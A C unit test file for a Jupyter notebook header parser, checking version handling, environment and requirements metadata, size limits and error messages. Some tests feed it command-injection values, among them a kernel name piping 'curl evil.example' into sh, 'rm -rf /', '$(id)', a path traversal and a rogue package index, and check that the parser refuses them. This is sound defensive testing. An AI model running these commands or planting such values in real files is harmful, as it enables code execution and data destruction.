/* SPDX-License-Identifier: Apache-2.0 */
#include <nbcid/notebook.h>

#include "nbtest.h"

#include "fixture.h"

#define MANY (1024 * 1024)

static int read_fixture(const char *name, struct notebook_head *ret, struct nb_err *err)
{
        size_t n;
        nb_auto_free char *p = fixture_read(name, &n);

        return notebook_read_head(name, p, n, MANY, ret, err);
}

static int read_text(const char *text, struct notebook_head *ret, struct nb_err *err)
{
        return notebook_read_head("t.ipynb", text, strlen(text), MANY, ret, err);
}

#define NB(cells, metadata) \
        "{\"cells\":[" cells "],\"metadata\":{" metadata "},\"nbformat\":4,\"nbformat_minor\":4}"
#define CODE(members) \
        "{\"cell_type\":\"code\",\"execution_count\":null,\"metadata\":{},\"outputs\":[]," members \
        "}"

static void check_refused(const char *text, enum nb_errc code, const char *part)
{
        struct notebook_head h = {.cells = -7};
        struct nb_err err = {0};

        CHECK_ERR(read_text(text, &h, &err), &err, code, part);
        if (strncmp(err.msg, "t.ipynb:", 8) != 0)
                FAIL("\"%s\" does not say where", err.msg);
        CHECK(h.cells == -7); /* written on success only */
}

static void check_refused_fixture(const char *name, enum nb_errc code, const char *start,
                                  const char *part)
{
        struct notebook_head h;
        struct nb_err err = {0};

        CHECK_ERR(read_fixture(name, &h, &err), &err, code, part);
        if (strncmp(err.msg, start, strlen(start)) != 0)
                FAIL("\"%s\" does not begin with \"%s\"", err.msg, start);
}

static void check_environment(const char *name, const char *kernel, const char *language,
                              const char *image, const char *env, const char *why)
{
        struct notebook_head h;
        struct nb_err err = {0};

        CHECK_OK(read_fixture(name, &h, &err), &err);
        CHECK_STR(h.environment.kernel, kernel);
        CHECK_STR(h.environment.language, language);
        CHECK_STR(h.environment.image, image);
        CHECK_STR(h.environment.name, env);
        CHECK_STR(h.environment.why, why);
        notebook_head_done(&h);
        CHECK(!h.environment.kernel);
        notebook_head_done(&h);
}

TEST(every_minor_of_nbformat_4_is_read)
{
        static const struct {
                const char *name;
                int minor, cells, code;
        } rows[] = {
                {"passed-4.5.ipynb", 5, 6, 4}, {"passed-4.4.ipynb", 4, 6, 4},
                {"passed-4.0.ipynb", 0, 6, 4}, {"fresh.ipynb", 5, 3, 2},
                {"failed.ipynb", 5, 4, 3},     {"widgets.ipynb", 5, 1, 1},
                {"cjk.ipynb", 5, 3, 2},
        };

        for (size_t i = 0; i < NB_ARRAY_SIZE(rows); i++) {
                struct notebook_head h;
                struct nb_err err = {0};

                CHECK_OK(read_fixture(rows[i].name, &h, &err), &err);
                CHECK_INT(h.nbformat, 4);
                CHECK_INT(h.nbformat_minor, rows[i].minor);
                CHECK_INT(h.cells, rows[i].cells);
                CHECK_INT(h.code_cells, rows[i].code);
                CHECK_STR(h.environment.kernel, "python3");
                notebook_head_done(&h);
        }
}

TEST(a_newer_minor_is_read)
{
        struct notebook_head h;
        struct nb_err err = {0};

        CHECK_OK(read_text("{\"cells\":[],\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":17,"
                           "\"new\":[{}]}",
                           &h, &err),
                 &err);
        CHECK_INT(h.nbformat_minor, 17);
        CHECK_INT(h.cells, 0);
        notebook_head_done(&h);
}

TEST(members_may_come_in_any_order)
{
        struct notebook_head h;
        struct nb_err err = {0};

        CHECK_OK(read_text("{\"nbformat_minor\":4,\"metadata\":{\"kernelspec\":{\"name\":\"a\"},"
                           "\"environment\":{\"kernel\":\"b\"}},\"nbformat\":4,\"cells\":[{"
                           "\"source\":\"x\",\"outputs\":[],\"metadata\":{},"
                           "\"execution_count\":null,\"cell_type\":\"code\"}]}",
                           &h, &err),
                 &err);
        CHECK_INT(h.code_cells, 1);
        CHECK_STR(h.environment.kernel, "b");
        notebook_head_done(&h);
}

TEST(every_variant_of_environment)
{
        check_environment("environment-workbench.ipynb", "conda-base-py", "python",
                          "us-docker.pkg.dev/deeplearning-platform-release/gcr.io/"
                          "workbench-notebooks:m128",
                          "workbench-notebooks.m128",
                          "kernel from metadata.environment, language from metadata.language_info, "
                          "image from metadata.environment");
        check_environment("environment-dlvm.ipynb", "python3", "python",
                          "gcr.io/deeplearning-platform-release/tf-gpu.1-15:m43", "tf-gpu.1-15.m43",
                          "kernel from metadata.kernelspec, language from metadata.language_info, "
                          "image from metadata.environment");
        check_environment("environment-remote.ipynb", "remote-9f1c-python3", "python", NULL,
                          "workbench-notebooks.m128",
                          "kernel from metadata.environment, language from "
                          "metadata.language_info");
        /* the kernelspec local-pytorch is not in the image */
        check_environment("environment-managed.ipynb", "python3", "python",
                          "gcr.io/deeplearning-platform-release/pytorch-gpu:latest",
                          "managed-notebooks.m87",
                          "kernel from metadata.environment, language from metadata.language_info, "
                          "image from metadata.environment");
        check_environment("environment-null.ipynb", "python3", "python", NULL, NULL,
                          "kernel from metadata.kernelspec, language from metadata.kernelspec");
        check_environment("environment-foreign.ipynb", "python3", "python", NULL, NULL,
                          "kernel from metadata.kernelspec, language from metadata.kernelspec");
        check_environment("environment-none.ipynb", NULL, NULL, NULL, NULL,
                          "the notebook names no kernel");
        check_environment("r.ipynb", "ir", "R", NULL, NULL,
                          "kernel from metadata.kernelspec, language from metadata.language_info");
        check_environment("cjk.ipynb", "python3", "python", NULL, "環境",
                          "kernel from metadata.kernelspec, language from metadata.kernelspec");
}

TEST(empty_names_are_not_said)
{
        struct notebook_head h;
        struct nb_err err = {0};

        CHECK_OK(read_text(NB("", "\"environment\":{\"kernel\":\"\",\"uri\":\"\"},"
                                  "\"kernelspec\":{\"name\":\"\"},\"language_info\":null"),
                           &h, &err),
                 &err);
        CHECK_STR(h.environment.kernel, NULL);
        CHECK_STR(h.environment.image, NULL);
        CHECK_STR(h.environment.language, NULL);
        notebook_head_done(&h);
}

TEST(requirements)
{
        struct notebook_head h;
        struct nb_err err = {0};

        CHECK_OK(read_fixture("requirements-list.ipynb", &h, &err), &err);
        CHECK_STR(h.environment.requirements,
                  "pandas>=2.0\nscikit-learn==1.4.2 ; python_version >= '3.9'");
        CHECK(strstr(h.environment.why, "requirements from metadata.requirements"));
        notebook_head_done(&h);

        CHECK_OK(read_fixture("requirements-pipfile.ipynb", &h, &err), &err);
        CHECK_STR(h.environment.requirements, NULL);
        CHECK(h.pipfile && strstr(h.pipfile, "\"packages\""));
        CHECK_STR(h.requirements_from,
                  h.pipfile_lock ? "metadata.requirements_lock" : "metadata.requirements");
        notebook_head_done(&h);
        CHECK(!h.pipfile && !h.pipfile_lock);

        CHECK_OK(read_text(NB("", "\"requirements\":{\"a\":1},\"requirements_lock\":7"), &h, &err),
                 &err);
        CHECK_STR(h.environment.requirements, NULL);
        CHECK(!h.pipfile && !h.pipfile_lock && !h.requirements_from);
        CHECK(strstr(h.environment.why, "is not read"));
        notebook_head_done(&h);

        CHECK_OK(read_text(NB("", "\"requirements\":[]"), &h, &err), &err);
        CHECK_STR(h.environment.requirements, NULL);
        notebook_head_done(&h);

        check_refused(NB("", "\"requirements\":[\"a\\n-i http://evil\"]"), NB_E_INVALID,
                      "control character");
        check_refused(NB("", "\"requirements\":[1]"), NB_E_INVALID,
                      "an item of metadata.requirements is a whole number, not a string; ");
}

TEST(older_schemas_are_read)
{
        struct notebook_head h;
        struct nb_err err = {0};

        CHECK_OK(read_text(NB("", "\"env\":{\"container\":\"gcr.io/a/b:1\"},"
                                  "\"container\":\"gcr.io/a/c:1\""),
                           &h, &err),
                 &err);
        CHECK_STR(h.environment.image, "gcr.io/a/b:1");
        CHECK_STR(h.image_from, "metadata.env.container");
        notebook_head_done(&h);
        CHECK_OK(read_text(NB("", "\"container\":\"gcr.io/a/c:1\",\"env\":[],\"environment\":{"
                                  "\"uri\":\"gcr.io/a/u:1\"}"),
                           &h, &err),
                 &err);
        CHECK_STR(h.environment.image, "gcr.io/a/u:1");
        CHECK_STR(h.image_from, "metadata.environment");
        notebook_head_done(&h);
        CHECK_OK(read_text(NB("", "\"container\":{\"a\":1},\"python_packages\":[\"numpy\","
                                  "{\"version\":\"1.2\",\"name\":\"pandas\"},{\"name\":\"x\"},"
                                  "{\"name\":\"y\",\"version\":\">=2\"}]"),
                           &h, &err),
                 &err);
        CHECK_STR(h.environment.image, NULL);
        CHECK_STR(h.environment.requirements, "numpy\npandas==1.2\nx\ny>=2");
        CHECK_STR(h.requirements_from, "metadata.python_packages");
        notebook_head_done(&h);
        /* a list of today's schema wins */
        CHECK_OK(
                read_text(NB("", "\"python_packages\":[\"a\"],\"requirements\":[\"b\"]"), &h, &err),
                &err);
        CHECK_STR(h.environment.requirements, "b");
        notebook_head_done(&h);
        check_refused(NB("", "\"python_packages\":[{\"version\":\"1\"}]"), NB_E_INVALID,
                      "name of an item of metadata.python_packages is missing");
        check_refused(NB("", "\"container\":\"a;rm -rf /\""), NB_E_INVALID,
                      "metadata.container \"a;rm -rf /\" is not a container image");
        check_refused(NB("", "\"env\":{\"container\":\"$(x)\"}"), NB_E_INVALID,
                      "metadata.env.container");
}

TEST(requirements_have_a_ceiling)
{
        nb_auto_buf b = NB_BUF(MANY);
        struct notebook_head h;
        struct nb_err err = {0};

        nb_buf_puts(&b, "{\"cells\":[],\"nbformat\":4,\"nbformat_minor\":4,\"metadata\":{"
                        "\"requirements\":[\"a\"");
        for (int i = 0; i < 10000; i++)
                nb_buf_puts(&b, ",\"package==1.0\"");
        nb_buf_puts(&b, "]}}");
        CHECK(!b.failed);
        CHECK_ERR(read_text(nb_buf_str(&b), &h, &err), &err, NB_E_LIMIT,
                  "metadata.requirements is over 65536 bytes");
}

TEST(other_versions_are_refused)
{
        check_refused_fixture("v3.ipynb", NB_E_INVALID, "v3.ipynb:5:14: ",
                              "nbformat 3 is not supported; open and save it with a current "
                              "Jupyter, or run `jupyter nbconvert --to notebook`");
        /* its cells are refused first, but the version is what is wrong */
        check_refused_fixture("v5.ipynb", NB_E_INVALID,
                              "v5.ipynb:9:14: ", "nbformat 5 is newer than nbformat 4");
        check_refused("{\"nbformat\":\"4\"}", NB_E_INVALID,
                      "nbformat is a string, not a whole number");
        check_refused("{\"nbformat\":4.5}", NB_E_INVALID, "nbformat is a fraction");
        check_refused("{\"nbformat\":4,\"nbformat_minor\":-1}", NB_E_INVALID,
                      "nbformat_minor is negative");
}

TEST(names_that_are_paths_or_shell_text_are_refused)
{
        check_refused_fixture("kernel-path.ipynb", NB_E_INVALID, "kernel-path.ipynb:",
                              "metadata.kernelspec.name \"../../tmp/evil\" is not the name of a "
                              "kernel");
        check_refused_fixture("kernel-shell.ipynb", NB_E_INVALID, "kernel-shell.ipynb:",
                              "metadata.environment.kernel \"python3; curl evil.example | sh\"");
        check_refused_fixture("image-shell.ipynb", NB_E_INVALID, "image-shell.ipynb:",
                              "metadata.environment.uri \"gcr.io/x/y:$(id)\" is not a container "
                              "image");
        static const char *const kernels[] = {"..",       ".",       "-c",  "a/b", "a b",
                                              "a\\u0000", "\\u00e9", "a$b", "a\\n"};
        for (size_t i = 0; i < NB_ARRAY_SIZE(kernels); i++) {
                char text[256];
                snprintf(text, sizeof(text), NB("", "\"kernelspec\":{\"name\":\"%s\"}"),
                         kernels[i]);
                check_refused(text, NB_E_INVALID, "is not the name of a kernel");
        }
        static const char *const images[] = {"-v/:/x", "a b",       "a;b", "a`b",
                                             "a|b",    "a\\u0009b", "a'b", "a\\\"b",
                                             "a\\\\b", "{a}",       "a*",  "\\u00e9"};
        for (size_t i = 0; i < NB_ARRAY_SIZE(images); i++) {
                char text[256];
                snprintf(text, sizeof(text), NB("", "\"environment\":{\"uri\":\"%s\"}"), images[i]);
                check_refused(text, NB_E_INVALID, "is not a container image");
        }
        check_refused(NB("", "\"language_info\":{\"name\":\"py\\u001bthon\"}"), NB_E_INVALID,
                      "metadata.language_info.name \"py thon\" is not the name of a language");
        check_refused(NB("", "\"kernelspec\":{\"language\":\"\\u0085\"}"), NB_E_INVALID,
                      "metadata.kernelspec.language");
        check_refused(NB("", "\"kernelspec\":{\"name\":{}}"), NB_E_INVALID,
                      "metadata.kernelspec.name is an object, not null or a string");
        check_refused(NB("", "\"kernelspec\":[]"), NB_E_INVALID,
                      "metadata.kernelspec is an array, not null or an object");
}

static int read_name(const char *where, size_t n)
{
        nb_auto_buf b = NB_BUF(MANY);
        struct notebook_head h;
        int r;

        nb_buf_printf(&b, "{\"cells\":[],\"nbformat\":4,\"nbformat_minor\":4,\"metadata\":{%s\"",
                      where);
        for (size_t i = 0; i < n; i++)
                nb_buf_putc(&b, 'a');
        nb_buf_puts(&b, "\"}}}");
        r = read_text(nb_buf_str(&b), &h, NULL);
        if (r == 0)
                notebook_head_done(&h);
        return r;
}

TEST(names_have_a_longest)
{
        CHECK_INT(read_name("\"kernelspec\":{\"name\":", 128), 0);
        CHECK_INT(read_name("\"kernelspec\":{\"name\":", 129), -NB_E_INVALID);
        CHECK_INT(read_name("\"environment\":{\"uri\":", 512), 0);
        CHECK_INT(read_name("\"environment\":{\"uri\":", 513), -NB_E_INVALID);
        CHECK_INT(read_name("\"language_info\":{\"name\":", 64), 0);
        CHECK_INT(read_name("\"language_info\":{\"name\":", 65), -NB_E_INVALID);
        CHECK_INT(read_name("\"environment\":{\"name\":", 70000), 0);
}

TEST(texts_name_line_column_and_remedy)
{
        check_refused_fixture("truncated.ipynb", NB_E_INVALID, "truncated.ipynb:",
                              "; the file is not JSON, so Jupyter cannot open it either");
        check_refused_fixture("bad-utf8.ipynb", NB_E_INVALID,
                              "bad-utf8.ipynb:8:10: ", "this is not UTF-8");
        check_refused_fixture("duplicate-keys.ipynb", NB_E_INVALID, "duplicate-keys.ipynb:6:4: ",
                              "metadata.kernelspec.name is there twice");
        check_refused_fixture("deep-bomb.ipynb", NB_E_LIMIT,
                              "deep-bomb.ipynb:1:", "over 256 deep; clear the notebook's outputs");
        check_refused_fixture("merge-conflict.ipynb", NB_E_INVALID,
                              "merge-conflict.ipynb:7:1: ", "unresolved merge conflict");
        check_refused_fixture("lfs-pointer.ipynb", NB_E_INVALID,
                              "lfs-pointer.ipynb:1:1: ", "Git LFS pointer");
        check_refused("", NB_E_INVALID, "the file is empty");
        check_refused("\xff\xfe{", NB_E_INVALID, "save the file as UTF-8");
        check_refused("{\"x\":\"a\xe9\"}", NB_E_INVALID, "save the file as UTF-8");
        check_refused("{\"x\":\"a\\ud83dx\"}", NB_E_INVALID, "this is half a character");
        check_refused("\xef\xbb\xbf{}", NB_E_INVALID, "without a byte order mark");
        check_refused("{\"x\":\n NaN}", NB_E_INVALID, "t.ipynb:2:2: ");
        check_refused("{\"x\":NaN}", NB_E_INVALID, "clear the output that shows it");
        check_refused("{\"x\":[-Infinity]}", NB_E_INVALID, "clear the output that shows it");
        check_refused("{}", NB_E_INVALID,
                      "t.ipynb:1:1: nbformat is missing; open the notebook in Jupyter");
        check_refused("[]", NB_E_INVALID, "t.ipynb:1:1: the notebook is an array, not an object");
        check_refused("\"x\"", NB_E_INVALID, "the notebook is a string, not an object");
}

TEST(no_text_loses_its_remedy_to_a_long_name)
{
        struct notebook_head h;
        struct nb_err err = {0};
        char name[2000];

        memset(name, 'd', sizeof(name) - 1);
        name[sizeof(name) - 1] = '\0';
        CHECK_ERR(notebook_read_head(name, "{}", 2, MANY, &h, &err), &err, NB_E_INVALID,
                  "d:1:1: nbformat is missing; open the notebook in Jupyter");
}

TEST(the_size_has_a_limit)
{
        static const char text[] = NB("", "");
        struct notebook_head h;
        struct nb_err err = {0};

        CHECK_ERR(notebook_read_head("t.ipynb", text, sizeof(text) - 1, sizeof(text) - 2, &h, &err),
                  &err, NB_E_LIMIT, "may have 57; clear its outputs");
        CHECK_OK(notebook_read_head("t.ipynb", text, sizeof(text) - 1, sizeof(text) - 1, &h, &err),
                 &err);
        notebook_head_done(&h);
}

TEST(cells_have_their_members)
{
        check_refused(NB("7", ""), NB_E_INVALID,
                      "t.ipynb:1:11: cell 1: the cell is a whole number, not an object");
        check_refused(NB("{}", ""), NB_E_INVALID, "t.ipynb:1:11: cell 1: cell_type is missing");
        check_refused(NB(CODE("\"source\":\"x\"") ",{\"cell_type\":\"raw\",\"metadata\":{}}", ""),
                      NB_E_INVALID, "cell 2: source is missing");
        check_refused(NB("{\"cell_type\":\"raw\",\"source\":\"\"}", ""), NB_E_INVALID,
                      "cell 1: metadata is missing");
        check_refused(NB("{\"cell_type\":\"code\",\"source\":\"\",\"metadata\":{}}", ""),
                      NB_E_INVALID, "cell 1: outputs is missing");
        check_refused(
                NB("{\"cell_type\":\"code\",\"source\":\"\",\"metadata\":{},\"outputs\":[]}", ""),
                NB_E_INVALID, "cell 1: execution_count is missing");
        check_refused(NB("{\"cell_type\":\"heading\"}", ""), NB_E_INVALID,
                      "cell 1: cell_type \"heading\" is not code, markdown or raw");
        check_refused(NB("{\"cell_type\":null}", ""), NB_E_INVALID, "cell_type is null");
        check_refused(NB("{\"source\":{}}", ""), NB_E_INVALID,
                      "source is an object, not a string or an array");
        check_refused(NB("{\"source\":[\"a\",1]}", ""), NB_E_INVALID,
                      "an item of source is a whole number, not a string");
        check_refused(NB("{\"metadata\":[]}", ""), NB_E_INVALID, "cell 1: metadata is an array");
        check_refused(NB("{\"outputs\":{}}", ""), NB_E_INVALID, "outputs is an object");
        check_refused(NB("{\"execution_count\":\"1\"}", ""), NB_E_INVALID,
                      "execution_count is a string, not null or a whole number");
        check_refused(NB("{\"execution_count\":1.5}", ""), NB_E_INVALID, "is a fraction");
        check_refused(NB("{\"metadata\":{\"tags\":\"skip-execution\"}}", ""), NB_E_INVALID,
                      "cell 1: metadata.tags is a string, not an array");
        check_refused(NB("{\"metadata\":{\"tags\":[null]}}", ""), NB_E_INVALID,
                      "an item of metadata.tags is null");
        check_refused("{\"nbformat\":4,\"nbformat_minor\":4,\"metadata\":{}}", NB_E_INVALID,
                      "cells is missing");
        check_refused("{\"nbformat\":4,\"nbformat_minor\":4,\"cells\":[]}", NB_E_INVALID,
                      "metadata is missing");
        check_refused("{\"nbformat\":4,\"cells\":[],\"metadata\":{}}", NB_E_INVALID,
                      "nbformat_minor is missing");
        check_refused("{\"cells\":{}}", NB_E_INVALID, "cells is an object, not an array");
        check_refused("{\"metadata\":null}", NB_E_INVALID, "metadata is null, not an object");
}

TEST(twice_is_refused_where_it_matters)
{
        static const char *const texts[] = {
                "{\"nbformat\":4,\"nbformat\":4}",
                "{\"cells\":[],\"cells\":[]}",
                "{\"metadata\":{},\"metadata\":{}}",
                NB(CODE("\"source\":\"x\",\"source\":\"y\""), ""),
                NB(CODE("\"source\":\"x\",\"metadata\":{}"), ""),
                NB("{\"metadata\":{\"tags\":[],\"tags\":[]}}", ""),
                NB("{\"outputs\":[{\"output_type\":1,\"output_type\":2}]}", ""),
                NB("", "\"kernelspec\":{},\"kernelspec\":{}"),
                NB("", "\"environment\":{\"kernel\":\"a\",\"k\\u0065rnel\":\"b\"}"),
                NB("", "\"execution\":{\"allow_errors\":true,\"allow_errors\":false}"),
                NB("", "\"requirements\":[],\"requirements\":[]"),
        };
        struct notebook_head h;
        struct nb_err err = {0};

        for (size_t i = 0; i < NB_ARRAY_SIZE(texts); i++)
                check_refused(texts[i], NB_E_INVALID, "is there twice");
        /* each cell is its own; what is not looked at is free */
        CHECK_OK(read_text(NB(CODE("\"source\":\"x\"") "," CODE("\"source\":\"x\""),
                              "\"x\":1,\"x\":{\"kernelspec\":3}"),
                           &h, &err),
                 &err);
        CHECK_INT(h.cells, 2);
        notebook_head_done(&h);
}

TEST(what_outputs_hold_is_not_the_notebook)
{
        struct notebook_head h;
        struct nb_err err = {0};

        CHECK_OK(read_text(NB("{\"cell_type\":\"code\",\"execution_count\":1,\"metadata\":{"
                              "\"x\":{\"tags\":3}},\"outputs\":[{\"data\":{\"cells\":[],"
                              "\"source\":3,\"nbformat\":3}},7,[{\"ename\":1}],{\"ename\":{"
                              "\"output_type\":[]}}],\"source\":\"x\"}",
                              ""),
                           &h, &err),
                 &err);
        CHECK_INT(h.cells, 1);
        notebook_head_done(&h);
}

TEST(memory_does_not_grow_with_the_notebook)
{
        struct notebook_head h;
        struct nb_err err = {0};
        size_t n;
        char *p = fixture_big(60, &n);
        long before = fixture_peak(), after;

        CHECK(n > 60 * 1024 * 1024);
        CHECK_OK(notebook_read_head("big.ipynb", p, n, n, &h, &err), &err);
        after = fixture_peak();
        CHECK_INT(h.cells, 61);
        CHECK_STR(h.environment.kernel, "python3");
        if (FIXTURE_PEAK_COUNTS && after - before >= 8 * 1024 * 1024)
                FAIL("reading took %ld bytes", after - before);
        notebook_head_done(&h);
        munmap(p, n);
}

NBTEST_MAIN()
